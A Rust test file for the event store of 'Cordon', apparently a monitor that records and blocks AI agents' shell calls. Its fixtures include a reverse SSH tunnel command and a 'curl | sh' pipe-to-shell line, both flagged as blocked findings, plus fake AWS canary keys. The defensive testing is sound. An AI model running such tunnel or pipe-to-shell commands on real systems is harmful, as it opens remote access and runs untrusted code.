use super::*;
use serde_json::json;

fn finding(kind: &str, severity: Severity, related: Vec<Value>) -> Finding {
    Finding {
        kind: kind.into(),
        severity,
        confidence: 0.9,
        rule: format!("test.{}", kind.to_lowercase()),
        attack: vec!["T1572".into()],
        evidence: "ssh -R 8080:localhost:22 x@203.0.113.5".into(),
        span: [0, 37],
        message: "a message".into(),
        related,
    }
}

fn call(session: Option<&str>, id: &str, command: &str, findings: Vec<Finding>) -> Record {
    let severity = findings.iter().map(|f| f.severity).max();
    let decision = match severity {
        None => Decision::Allow,
        Some(s) if s >= Severity::High => Decision::Block,
        Some(_) => Decision::Warn,
    };
    Record {
        line: Some(1),
        event_id: Some(json!(id)),
        session: session.map(Into::into),
        agent: Some("agent-1".into()),
        task: Some("fix the build".into()),
        kind: Some(EventKind::Call),
        tool: Some("bash".into()),
        capability: Some("shell".into()),
        input: Some(json!({ "command": command }).to_string()),
        output: None,
        raw: None,
        ts: Some("2025-06-01T10:00:00Z".into()),
        verdict: Verdict {
            id: Some(json!(id)),
            decision,
            severity,
            findings,
            error: None,
            line: None,
        },
        secrets: vec![],
    }
}

fn temp_store() -> (tempfile::TempDir, Store) {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(&dir.path().join("nested/dir/cordon.db")).unwrap();
    (dir, store)
}

fn user_version(path: &Path) -> i64 {
    Connection::open(path)
        .unwrap()
        .pragma_query_value(None, "user_version", |r| r.get(0))
        .unwrap()
}

#[test]
fn migrates_an_empty_file_and_reopens() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("a/b/cordon.db");
    let mut store = Store::open(&path).unwrap();
    assert_eq!(user_version(&path), schema::MIGRATIONS.len() as i64);
    let mode: String = store
        .conn
        .pragma_query_value(None, "journal_mode", |r| r.get(0))
        .unwrap();
    assert_eq!(mode, "wal");
    let sync: i64 = store
        .conn
        .pragma_query_value(None, "synchronous", |r| r.get(0))
        .unwrap();
    assert_eq!(sync, 2, "synchronous=FULL");
    store
        .record(&[call(Some("s1"), "c1", "ls", vec![])])
        .unwrap();
    drop(store);

    // An empty file (as `touch` leaves it) is a store at version 0.
    let empty = dir.path().join("empty.db");
    fs::write(&empty, b"").unwrap();
    Store::open(&empty).unwrap();
    assert_eq!(user_version(&empty), schema::MIGRATIONS.len() as i64);

    let store = Store::open_existing(&path).unwrap();
    assert_eq!(store.events("s1").unwrap().len(), 1);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(
            fs::metadata(&path).unwrap().permissions().mode() & 0o777,
            0o600
        );
    }
}

#[test]
fn a_missing_store_is_not_created_by_readers() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("none.db");
    let err = Store::open_existing(&path).err().unwrap();
    assert!(matches!(err, StoreError::Missing(_)));
    assert!(err.to_string().contains("none.db"), "{err}");
    assert!(!path.exists());
}

#[test]
fn a_newer_schema_is_refused_by_name() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("future.db");
    drop(Store::open(&path).unwrap());
    Connection::open(&path)
        .unwrap()
        .pragma_update(None, "user_version", 99)
        .unwrap();
    let err = Store::open(&path).err().unwrap();
    assert!(matches!(err, StoreError::NewerSchema { found: 99, .. }));
    let msg = err.to_string();
    assert!(
        msg.contains("future.db") && msg.contains("99") && msg.contains("newer"),
        "{msg}"
    );
}

#[test]
fn a_foreign_database_is_left_alone() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("other.db");
    Connection::open(&path)
        .unwrap()
        .execute_batch("CREATE TABLE t (x)")
        .unwrap();
    let msg = Store::open(&path).err().unwrap().to_string();
    assert!(
        msg.contains("other.db") && msg.contains("not a Cordon store"),
        "{msg}"
    );
    let not_sqlite = dir.path().join("text.db");
    fs::write(
        &not_sqlite,
        "hello, this is not a database at all, just some text here",
    )
    .unwrap();
    let msg = Store::open(&not_sqlite).err().unwrap().to_string();
    assert!(msg.contains("text.db"), "{msg}");
}

#[test]
fn records_read_back_with_episode_totals() {
    let (_dir, mut store) = temp_store();
    let tunnel = finding("REVERSE_TUNNEL", Severity::Critical, vec![json!("c1")]);
    let mut result = call(
        Some("s1"),
        "c1",
        "",
        vec![finding("SECRET_IN_OUTPUT", Severity::Medium, vec![])],
    );
    result.kind = Some(EventKind::Result);
    result.input = None;
    result.output = Some(json!("total 0").to_string());
    result.ts = Some("2025-06-01T12:00:00+02:00".into()); // 10:00Z, as the call
    let mut invalid = call(None, "x", "", vec![]);
    invalid.kind = None;
    invalid.tool = None;
    invalid.input = None;
    invalid.raw = Some("{not json".into());
    invalid.ts = None;
    invalid.verdict = Verdict::error(None, "invalid JSON: eof".into(), Some(3));
    invalid.event_id = None;
    store
        .record(&[
            call(Some("s1"), "c1", "ls -la", vec![]),
            result,
            invalid,
            call(
                Some("s1"),
                "c2",
                "ssh -R 8080:localhost:22 x@203.0.113.5",
                vec![tunnel.clone()],
            ),
        ])
        .unwrap();

    let episodes = store.list_episodes(&EpisodeFilter::default()).unwrap();
    assert_eq!(episodes.len(), 2);
    let s1 = episodes.iter().find(|e| e.key == "s1").unwrap();
    assert_eq!(
        (s1.events, s1.findings, s1.worst_severity),
        (3, 2, Some(Severity::Critical))
    );
    assert_eq!(s1.agent.as_deref(), Some("agent-1"));
    assert_eq!(
        (s1.first.as_str(), s1.last.as_str()),
        ("2025-06-01T10:00:00.000Z", "2025-06-01T10:00:00.000Z")
    );
    let none = episodes.iter().find(|e| e.key.is_empty()).unwrap();
    assert_eq!(
        (
            none.label(),
            none.events,
            none.findings,
            none.worst_severity
        ),
        (NO_SESSION, 1, 0, None)
    );

    let events = store.events("s1").unwrap();
    assert_eq!(events.iter().map(|e| e.step).collect::<Vec<_>>(), [1, 2, 3]);
    assert_eq!(events[0].input, Some(json!({ "command": "ls -la" })));
    assert_eq!(events[0].verdict.decision, Decision::Allow);
    assert_eq!(events[1].kind, Some(EventKind::Result));
    assert_eq!(events[1].output, Some(json!("total 0")));
    assert_eq!(events[2].event_id, Some(json!("c2")));
    assert_eq!(events[2].verdict.decision, Decision::Block);
    assert_eq!(events[2].verdict.severity, Some(Severity::Critical));
    assert_eq!(events[2].verdict.findings, vec![tunnel]);
    assert!(events.windows(2).all(|w| w[0].seq < w[1].seq));

    let bad = store.events("").unwrap();
    assert_eq!(bad.len(), 1);
    assert_eq!(
        (bad[0].kind, bad[0].raw.as_deref()),
        (None, Some("{not json"))
    );
    assert_eq!(bad[0].verdict.decision, Decision::Error);
    assert_eq!(bad[0].verdict.error.as_deref(), Some("invalid JSON: eof"));

    // A second batch continues the episode's steps and totals.
    store
        .record(&[call(Some("s1"), "c3", "pwd", vec![])])
        .unwrap();
    let Lookup::Found(s1) = store.find_episode("s1").unwrap() else {
        panic!()
    };
    assert_eq!(s1.events, 4);
    assert_eq!(store.events("s1").unwrap()[3].step, 4);

    let rows: i64 = store
        .conn
        .query_row(
            "SELECT count(*) FROM findings WHERE related = '[\"c1\"]'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(rows, 1);
}

#[test]
fn a_batch_is_atomic() {
    let (_dir, mut store) = temp_store();
    store
        .record(&[call(Some("s1"), "c1", "ls", vec![])])
        .unwrap();
    // Nothing in the API makes an insert fail midway: a trigger breaks the batch's last one.
    store
        .conn
        .execute_batch(
            "CREATE TEMP TRIGGER fail BEFORE INSERT ON events WHEN NEW.tool = 'boom'
             BEGIN SELECT RAISE(ABORT, 'boom'); END",
        )
        .unwrap();
    let mut bad = call(Some("s2"), "c3", "x", vec![]);
    bad.tool = Some("boom".into());
    let err = store
        .record(&[call(Some("s1"), "c2", "pwd", vec![]), bad])
        .err()
        .unwrap();
    assert!(err.to_string().contains("boom"), "{err}");
    let episodes = store.list_episodes(&EpisodeFilter::default()).unwrap();
    assert_eq!(episodes.len(), 1, "the new episode s2 was rolled back");
    assert_eq!(episodes[0].events, 1, "s1's second event was rolled back");
    assert_eq!(store.events("s1").unwrap().len(), 1);
}

#[test]
fn the_fingerprint_key_persists_privately() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("cordon.db");
    let k1 = key::load_or_create(&db, None).unwrap();
    let k2 = key::load_or_create(&db, None).unwrap();
    assert_eq!(k1, k2);
    assert_ne!(k1, [0; 32]);
    let text = fs::read_to_string(key_path(&db)).unwrap();
    assert_eq!(text.trim(), key::encode(&k1));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(
            fs::metadata(key_path(&db)).unwrap().permissions().mode() & 0o777,
            0o600
        );
    }
    // Another store gets another key.
    assert_ne!(
        key::load_or_create(&dir.path().join("other.db"), None).unwrap(),
        k1
    );
    // The environment's key wins, and a malformed one is named.
    let hex = "ab".repeat(32);
    assert_eq!(key::load_or_create(&db, Some(hex)).unwrap(), [0xab; 32]);
    let err = key::load_or_create(&db, Some("abc".into())).err().unwrap();
    assert!(err.to_string().contains(KEY_ENV), "{err}");
    fs::write(key_path(&db), "zz").unwrap();
    let err = key::load_or_create(&db, None).err().unwrap();
    assert!(err.to_string().contains("cordon.db.key"), "{err}");
}

#[test]
fn canaries_round_trip() {
    let (_dir, mut store) = temp_store();
    assert!(store.canaries().unwrap().is_empty());
    let c = |id: &str, at: &str| CanaryRecord {
        id: id.into(),
        kind: "aws".into(),
        marker: format!("AKIA{id}"),
        path: format!("/home/u/.aws/{id}"),
        planted_at: at.into(),
    };
    store
        .add_canaries(&[
            c("b", "2025-06-02T00:00:00.000Z"),
            c("a", "2025-06-01T00:00:00.000Z"),
        ])
        .unwrap();
    let mut replaced = c("b", "2025-06-02T00:00:00.000Z");
    replaced.path = "/elsewhere".into();
    store.add_canaries(&[replaced.clone()]).unwrap();
    assert_eq!(
        store.canaries().unwrap(),
        vec![c("a", "2025-06-01T00:00:00.000Z"), replaced]
    );
}

#[test]
fn tool_definitions_round_trip() {
    let (_dir, mut store) = temp_store();
    assert_eq!(store.tool_definition("read_file").unwrap(), None);
    let mut d = ToolDefinition {
        name: "read_file".into(),
        schema: json!({ "type": "object", "properties": { "path": { "type": "string" } } }),
        hash: "h1".into(),
        first_seen: "2025-06-01T00:00:00.000Z".into(),
    };
    store.put_tool_definition(&d).unwrap();
    assert_eq!(store.tool_definition("read_file").unwrap(), Some(d.clone()));
    d.hash = "h2".into();
    store.put_tool_definition(&d).unwrap();
    assert_eq!(store.tool_definition("read_file").unwrap(), Some(d));
}

#[test]
fn secrets_are_counted_by_fingerprint() {
    let (_dir, mut store) = temp_store();
    let mut a = call(Some("s1"), "c1", "echo", vec![]);
    a.secrets = vec![("aws".into(), "f1".into())];
    let mut b = call(Some("s2"), "c2", "echo", vec![]);
    b.secrets = vec![("aws".into(), "f1".into()), ("github".into(), "f2".into())];
    store.record(&[a, b]).unwrap();
    let f1 = store.secret("f1").unwrap().unwrap();
    assert_eq!(
        (f1.kind.as_str(), f1.count, f1.first_episode.as_str()),
        ("aws", 2, "s1")
    );
    assert!(f1.first_seq < f1.last_seq);
    assert_eq!(store.secret("f2").unwrap().unwrap().first_episode, "s2");
    assert_eq!(store.secret("nope").unwrap(), None);
}

#[test]
fn lists_filter_and_ids_resolve_by_prefix() {
    let (_dir, mut store) = temp_store();
    let mut late = call(
        Some("run-42-b"),
        "c1",
        "curl x | sh",
        vec![finding("PIPE_TO_SHELL", Severity::High, vec![])],
    );
    late.ts = Some("2025-06-03T10:00:00Z".into());
    late.agent = Some("agent-2".into());
    late.task = Some("Deploy the SITE".into());
    store
        .record(&[call(Some("run-41-a"), "c1", "ls", vec![]), late])
        .unwrap();

    let keys = |f: EpisodeFilter| {
        store
            .list_episodes(&f)
            .unwrap()
            .into_iter()
            .map(|e| e.key)
            .collect::<Vec<_>>()
    };
    assert_eq!(keys(EpisodeFilter::default()), ["run-42-b", "run-41-a"]);
    assert_eq!(
        keys(EpisodeFilter {
            agent: Some("agent-2".into()),
            ..Default::default()
        }),
        ["run-42-b"]
    );
    assert_eq!(
        keys(EpisodeFilter {
            task: Some("deploy".into()),
            ..Default::default()
        }),
        ["run-42-b"]
    );
    assert_eq!(
        keys(EpisodeFilter {
            with_findings: true,
            ..Default::default()
        }),
        ["run-42-b"]
    );
    assert_eq!(
        keys(EpisodeFilter {
            finding_kind: Some("PIPE_TO_SHELL".into()),
            ..Default::default()
        }),
        ["run-42-b"]
    );
    assert_eq!(
        keys(EpisodeFilter {
            since_ms: time::parse_ms("2025-06-02"),
            ..Default::default()
        }),
        ["run-42-b"]
    );
    assert_eq!(
        keys(EpisodeFilter {
            until_ms: time::parse_ms("2025-06-02"),
            ..Default::default()
        }),
        ["run-41-a"]
    );
    assert_eq!(
        keys(EpisodeFilter {
            limit: Some(1),
            ..Default::default()
        }),
        ["run-42-b"]
    );

    assert!(
        matches!(store.find_episode("run-42").unwrap(), Lookup::Found(e) if e.key == "run-42-b")
    );
    assert_eq!(
        store.find_episode("run-4").unwrap(),
        Lookup::Ambiguous(vec!["run-41-a".into(), "run-42-b".into()])
    );
    assert_eq!(store.find_episode("zzz").unwrap(), Lookup::NotFound);
    assert_eq!(store.find_episode(NO_SESSION).unwrap(), Lookup::NotFound);
    assert_eq!(store.find_episode("").unwrap(), Lookup::NotFound);
}

#[test]
fn the_default_path_follows_xdg() {
    let os = |s: &str| Some(OsString::from(s));
    assert_eq!(
        store_path(os("/data"), os("/home/u")),
        PathBuf::from("/data/cordon/cordon.db")
    );
    assert_eq!(
        store_path(None, os("/home/u")),
        PathBuf::from("/home/u/.local/share/cordon/cordon.db")
    );
    assert_eq!(
        store_path(os(""), os("/home/u")),
        PathBuf::from("/home/u/.local/share/cordon/cordon.db")
    );
    // A relative XDG_DATA_HOME is ignored, as the XDG spec says.
    assert_eq!(
        store_path(os("rel"), os("/home/u")),
        PathBuf::from("/home/u/.local/share/cordon/cordon.db")
    );
}

#[test]
fn concurrent_writers_keep_steps_and_totals_consistent() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("shared.db");
    // All open the new store at once: the schema and the key are created once.
    let writers: Vec<_> = (0..4)
        .map(|w| {
            let path = path.clone();
            std::thread::spawn(move || {
                // Each writer is its own connection, as separate hook processes are.
                let mut store = Store::open(&path).unwrap();
                for b in 0..25 {
                    let batch: Vec<Record> = (0..8)
                        .map(|i| call(Some("shared"), &format!("w{w}-{b}-{i}"), "true", vec![]))
                        .collect();
                    store.record(&batch).unwrap();
                }
                store.fingerprint_key()
            })
        })
        .collect();
    let keys: Vec<[u8; 32]> = writers.into_iter().map(|w| w.join().unwrap()).collect();
    let store = Store::open_existing(&path).unwrap();
    if std::env::var_os(KEY_ENV).is_none() {
        assert!(
            keys.iter().all(|k| *k == store.fingerprint_key()),
            "one key for all writers"
        );
    }
    let Lookup::Found(ep) = store.find_episode("shared").unwrap() else {
        panic!()
    };
    assert_eq!(ep.events, 4 * 25 * 8);
    let steps: Vec<u64> = store
        .events("shared")
        .unwrap()
        .iter()
        .map(|e| e.step)
        .collect();
    assert_eq!(steps, (1..=800).collect::<Vec<u64>>());
}

#[test]
fn a_background_checkpoint_keeps_the_wal_bounded_and_loses_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("cordon.db");
    let wal = wal_path(&path);
    let mut store = Store::open(&path).unwrap();
    store.checkpoint_in_background().unwrap();
    let autocheckpoint: i64 = store
        .conn
        .pragma_query_value(None, "wal_autocheckpoint", |r| r.get(0))
        .unwrap();
    assert_eq!(autocheckpoint, 0, "commits no longer checkpoint themselves");
    // ~12 MB of events, in batches of 100: three times the checkpoint threshold.
    let filler = "x".repeat(1000);
    let mut biggest_wal = 0;
    let mut db_grew_while_open = false;
    for batch in 0..120 {
        let records: Vec<Record> = (0..100)
            .map(|i| {
                call(
                    Some("s1"),
                    &format!("c{batch}-{i}"),
                    &format!("echo {filler}"),
                    vec![],
                )
            })
            .collect();
        store.record(&records).unwrap();
        biggest_wal = biggest_wal.max(file_len(&wal));
        // The database file only grows when a checkpoint copies the WAL into it.
        db_grew_while_open |= file_len(&path) > 1 << 20;
    }
    // The checkpointer runs beside the writer; give it a moment to finish the last one.
    let deadline = Instant::now() + Duration::from_secs(20);
    while !db_grew_while_open && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
        db_grew_while_open = file_len(&path) > 1 << 20;
    }
    assert!(
        db_grew_while_open,
        "the background thread copied the WAL into the database while the store was open"
    );
    // The WAL header's checkpoint sequence number (bytes 12..16) counts the
    // times the log restarted from its start once fully copied.
    let header = fs::read(&wal).unwrap();
    let restarts = u32::from_be_bytes(header[12..16].try_into().unwrap());
    assert!(
        restarts >= 1,
        "the WAL never restarted: it would grow with every batch"
    );
    assert!(
        biggest_wal < CHECKPOINT_FORCED_AT,
        "largest WAL {biggest_wal} bytes"
    );
    drop(store);
    assert!(
        !wal.exists(),
        "closing the last connection checkpoints what is left and removes the WAL"
    );
    let store = Store::open_existing(&path).unwrap();
    let events = store.events("s1").unwrap();
    assert_eq!(events.len(), 12_000);
    assert_eq!(events.last().unwrap().step, 12_000);
}
